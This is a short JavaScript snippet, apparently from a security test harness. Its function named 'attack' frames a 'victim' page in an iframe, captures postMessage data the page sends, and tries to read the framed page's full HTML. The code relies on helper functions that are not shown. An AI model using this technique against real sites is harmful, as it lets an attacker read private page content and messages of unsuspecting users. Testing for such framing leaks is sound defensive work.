// Frames the victim's page and listens to what it says.
const attack = async (victim) => {
  const frame = Object.assign(document.createElement('iframe'), { src: at(victim, '/') });
  const said = new Promise((done) => {
    addEventListener('message', ({ data, source }) => { if (source === frame.contentWindow) done(took(victim, data)); });
  });
  await within(2_000, loaded(frame));
  await each([1], () => took(victim, frame.contentDocument.documentElement.outerHTML));
  await within(300, said);
};
